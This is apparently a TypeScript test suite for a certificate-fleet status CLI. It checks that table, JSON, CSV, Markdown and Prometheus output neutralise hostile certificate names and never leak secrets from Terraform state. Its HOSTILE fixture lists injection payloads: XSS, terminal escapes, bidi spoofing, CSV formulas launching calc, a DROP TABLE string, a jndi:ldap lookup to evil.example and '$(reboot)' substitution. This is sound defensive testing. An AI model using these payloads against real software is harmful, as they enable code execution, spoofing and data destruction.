import { spawnSync } from "node:child_process";
import { statusTable } from "../../lib/cli/status-report";
import { columnsOf } from "../../lib/core/printable";
import { entry, inDays, judge, NOW, seen } from "../inventory/health/fleet";
import { directoryWith, state, statusIn } from "./status-command";

const DAY = ["--now", NOW.toISOString().slice(0, 10)];
const FORMATS = ["table", "json", "csv", "markdown", "prometheus"];

const HOSTILE: Record<string, string> = {
  html: `<img src=x onerror=alert(1)>"'&`,
  escapes: "\u001b[2J\u001b]0;owned\u0007\u009b31m\u001b]8;;https://evil.example\u0007link",
  lines: "one\ntwo\r\nthree\rfour\u2028five\u0085six",
  direction: "abc\u202egnp.exe\u2066\u200f\u061c",
  formula: '=HYPERLINK("https://evil.example";"x")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3",
  at: "@SUM(1+1)",
  spaced: "  =1+1",
  quotes: `"; DROP TABLE certificates; --`,
  markdown: "a | b ![x](https://evil.example/x.png) [y](javascript:alert(1)) `z` **w** @everyone #1 <!-- --",
  labels: 'a"} 1\nevil_metric{x="',
  backslashes: 'a\\"b\\\\nc\\',
  emoji: "👩‍💻🇩🇪🏴‍☠️",
  long: "x".repeat(10_000),
  longEmoji: "👩‍💻".repeat(2_000),
  marks: `z${"\u0300".repeat(5_000)}`,
  nothing: "",
  halves: "\ud800x\udfff",
  template: "${jndi:ldap://evil.example} $(reboot) `reboot`",
};

const certificates = Object.fromEntries(
  Object.entries(HOSTILE).map(([, text], index) => [
    `${index}${text}`,
    entry({
      domains: [text, text],
      owner: text,
      service: text,
      runbook: text,
      issuer: text || "x",
      keyType: text,
      serial: text,
      notAfter: inDays(index - 5),
      endpoints: [{ kind: text, hosts: [text], port: 443, tlsPolicy: text, minimumTls: text }],
    }),
  ]),
);
const waivers = Object.values(HOSTILE).map((text) => ({ rule: text, resource: text, until: text, owner: text, reason: text }));
const directory = directoryWith({ "terraform.tfstate": state(certificates, {}, { stack: `media${HOSTILE.escapes}`, waivers }) });

describe("hostile names and owners", () => {
  test.each(FORMATS)("do not put control characters, hidden characters or direction marks into %s", async (format) => {
    const { status, out, err } = await statusIn(directory, ...DAY, "--format", format);
    expect({ status, err }).toEqual({ status: 1, err: "" });
    expect(out.replace(/\n/g, "").replace(/(?<=\p{Extended_Pictographic}\ufe0f?)\u200d(?=\p{Extended_Pictographic})/gu, "")).not.toMatch(
      /[\p{Cc}\p{Cf}\u2028\u2029\ud800-\udfff]/u,
    );
  });

  test("do not break lines or exceed the width of a table", () => {
    const health = judge(
      { certificates },
      Object.values(HOSTILE).map((host) => seen({ host, nameMatches: false, issuer: host, problem: host, chainValid: false })),
    );
    const out = statusTable({ health, probed: 0, skipped: 0 }, { columns: 100, colored: false }).text;
    const lines = out.split("\n");
    expect(Math.max(...lines.map(columnsOf))).toBeLessThanOrEqual(100);
    expect(lines.indexOf("")).toBe(Object.keys(certificates).length + 1);
  });

  test("are not shortened in JSON", async () => {
    const { out } = await statusIn(directory, ...DAY, "--format", "json");
    const owners = JSON.parse(out).certificates.map(({ owner }: { owner?: string }) => owner);
    expect(owners.sort()).toEqual(Object.values(HOSTILE).sort());
  });

  test("are not formulas in CSV, and do not add lines", async () => {
    const { out } = await statusIn(directory, ...DAY, "--format", "csv");
    const cells = readCsv(out);
    expect(cells).toHaveLength(Object.keys(certificates).length + 1);
    expect(new Set(cells.map((line) => line.length))).toEqual(new Set([20]));
    const text = cells.slice(1).flatMap((line) => line.slice(4));
    expect(text.filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    expect(text).toContain(`'${HOSTILE.formula}`);
  });

  test("are plain text in Markdown, without images, links, mentions or additional cells", async () => {
    const { out } = await statusIn(directory, ...DAY, "--format", "markdown");
    const rows = out.split("\n").filter((line) => line.startsWith("| "));
    expect(new Set(rows.map((row) => row.replace(/\\./g, "").split("|").length))).toEqual(new Set([9]));
    expect(out).not.toMatch(/(^|[^\\])!\[|(^|[^\\])\]\(|<img|<script|@everyone|https:\/\//);
  });

  test("do not add metrics, and promtool accepts the output", async () => {
    const { out } = await statusIn(directory, ...DAY, "--format", "prometheus");
    expect(out).not.toMatch(/^evil_metric/m);
    expect(out.split("\n").filter((line) => line !== "" && !/^(# (HELP|TYPE) |certfleet_[a-z_]+(\{.*\})? -?\d+$)/.test(line))).toEqual([]);
    const promtool = spawnSync("promtool", ["check", "metrics"], { input: out, encoding: "utf8" });
    if (promtool.error) {
      console.warn("promtool is not installed: metrics were not checked with it");
      return;
    }
    expect({ status: promtool.status, text: promtool.stdout + promtool.stderr }).toEqual({ status: 0, text: "" });
  });
});

describe("invalid inventories", () => {
  const SECRET = "-----BEGIN PRIVATE KEY-----hunter2";
  const secrets = { resources: [{ type: "tls_private_key", name: "k", instances: [{ attributes: { private_key_pem: SECRET } }] }] };

  test.each<[string, unknown, string]>([
    ["empty", "", "is empty"],
    ["truncated", `{"version": 4, "outputs": {"password": {"value": "${SECRET}"`, "is not valid JSON"],
    ["of a future version", state({}, secrets, { version: 2 }), "Update certfleet"],
    ["of an old version", state({}, secrets, { version: 0 }), "Apply the stack with this version"],
    ["of an invalid version", state({}, secrets, { version: SECRET }), "the inventory is not valid"],
    [
      "of an invalid shape",
      state({ www: { ...entry(), endpoints: SECRET, alerts: [SECRET], port: SECRET } }, secrets),
      "certificates.www.endpoints",
    ],
    [
      "without an inventory",
      { version: 4, serial: 1, outputs: { password: { value: SECRET, sensitive: true } }, ...secrets },
      "without an inventory",
    ],
    ["something else", { hello: SECRET }, "is not a Terraform state"],
    ["a list", [SECRET], "is not a Terraform state"],
    ["with a hostile name", state({ [`\u001b[2J${SECRET.slice(0, 3)}`]: { ...entry(), endpoints: 1 } }), "\\x1b[2J"],
  ])("%s: exits with 2, states the problem and does not print secrets", async (_, content, words) => {
    const { status, out, err } = await statusIn(directoryWith({ "terraform.tfstate": content }));
    expect({ status, out }).toEqual({ status: 2, out: "" });
    expect(err).toContain(words);
    expect(err).not.toContain("hunter2");
    expect(err.replace(/\n/g, "")).not.toMatch(/\p{Cc}/u);
  });

  test.each(FORMATS)("does not print secrets of a state in %s", async (format) => {
    const content = state({ www: { ...entry(), privateKey: SECRET } }, secrets) as { outputs: Record<string, unknown> };
    content.outputs.password = { value: SECRET, sensitive: true };
    const { out } = await statusIn(directoryWith({ "terraform.tfstate": content }), ...DAY, "--format", format);
    expect(out).toContain("media/www");
    expect(out).not.toContain("hunter2");
  });
});

/** Reads CSV in the form of RFC 4180. */
function readCsv(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n)/g)) {
    line.push(quoted === undefined ? plain : quoted.replace(/""/g, '"'));
    if (end === "\n") {
      lines.push(line);
      line = [];
    }
  }
  return lines;
}
